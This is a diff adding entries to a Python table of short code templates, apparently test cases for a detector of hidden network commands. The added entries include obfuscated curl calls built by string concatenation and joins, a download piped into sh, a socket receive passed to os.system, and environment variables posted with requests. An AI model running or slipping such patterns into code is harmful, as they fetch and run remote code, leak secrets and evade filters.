@@ -63,6 +63,13 @@ UNITS = {
     "rules of make": "a{n}: b\n\tcurl -o $@ x\n",
     "letters that look alike": "\uff43\uff55 \u0441url {n}\n",
     "options that run": "curl -o f{n} x.example\ntar --to-command=f{n} x\n",
+    "sums over lines": "a = 'cu' +\n  'rl'\n",
+    "joined lists": "x.join(['cu', 'rl'])\n",
+    "variables of a format": "A{n}: curl\n$A{n} x\n",
+    "blocks": "{\ncurl x.example\n} | sh\n",
+    "loops of cmd": "for /f %%a in ('curl x.example') do (\n%%a\n",
+    "ends": "s.recv(1)\nos.system(x{n})\n",
+    "the environment by name": "a{n} = os.environ.copy()\nrequests.post(a{n})\n",
     "fences": "```sh\ncurl x.example\n```\n",
     "here-documents": "cat <<EOF\n",
 }
